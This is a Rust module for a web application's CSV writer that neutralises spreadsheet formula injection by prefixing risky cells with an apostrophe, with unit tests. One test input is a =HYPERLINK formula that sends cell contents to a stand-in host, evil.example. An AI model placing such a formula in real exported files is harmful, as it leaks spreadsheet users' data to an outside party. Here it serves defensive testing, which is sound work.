//! The one CSV writer every download uses. Spreadsheets run a cell that starts with `=`,
//! `+`, `-`, `@`, a tab or a carriage return as a formula, so a note titled
//! `=HYPERLINK(...)` could act on the reader's machine. As OWASP advises, such a cell is
//! written with a leading `'`, which spreadsheets show as text. Plain numbers (`-0.42`) are
//! left alone: they cannot be formulas, and people need to sum them.

use crate::WebError;

/// A CSV table being written to memory, header first.
pub(crate) struct CsvTable {
    writer: csv::Writer<Vec<u8>>,
}

impl CsvTable {
    /// A table with this header row.
    pub(crate) fn new<I, S>(header: I) -> Result<CsvTable, WebError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        #[allow(clippy::disallowed_methods, reason = "this is the one CSV writer")]
        let writer = csv::Writer::from_writer(Vec::new());
        let mut table = CsvTable { writer };
        table.row(header)?;
        Ok(table)
    }

    /// Appends one row, neutralising any cell a spreadsheet would run.
    pub(crate) fn row<I, S>(&mut self, cells: I) -> Result<(), WebError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> = cells.into_iter().map(|c| neutralise(c.as_ref())).collect();
        self.writer.write_record(&cells)?;
        Ok(())
    }

    /// The finished bytes.
    pub(crate) fn finish(self) -> Result<Vec<u8>, WebError> {
        self.writer
            .into_inner()
            .map_err(|e| WebError::internal(format!("writing CSV: {e}")))
    }
}

/// The cell as a spreadsheet should show it: text that would start a formula gets a
/// leading `'`.
fn neutralise(cell: &str) -> String {
    let starts_formula = cell
        .chars()
        .next()
        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
    if starts_formula && !is_plain_number(cell) {
        format!("'{cell}")
    } else {
        cell.to_string()
    }
}

/// A signed decimal such as `-0.42` or `+3`, which no spreadsheet reads as a formula.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    !digits.is_empty()
        && digits.chars().filter(|c| *c == '.').count() <= 1
        && digits.chars().all(|c| c.is_ascii_digit() || c == '.')
        && digits.chars().any(|c| c.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(cells: &[&str]) -> String {
        let mut table = CsvTable::new(["a"]).unwrap();
        table.row(cells).unwrap();
        let text = String::from_utf8(table.finish().unwrap()).unwrap();
        text.lines().nth(1).unwrap().to_string()
    }

    #[test]
    fn cells_that_start_a_formula_become_text() {
        assert_eq!(
            written(&["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")"]),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"x\"\")\""
        );
        for dangerous in [
            "=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "-", "--1", "-1e5",
        ] {
            assert_eq!(neutralise(dangerous), format!("'{dangerous}"));
        }
    }

    #[test]
    fn numbers_and_ordinary_text_are_unchanged() {
        for safe in [
            "-0.42",
            "+3",
            "12.5",
            "St Mary's",
            "",
            "a=b",
            " =x",
            "5 Dimensions",
        ] {
            assert_eq!(neutralise(safe), safe);
        }
    }
}
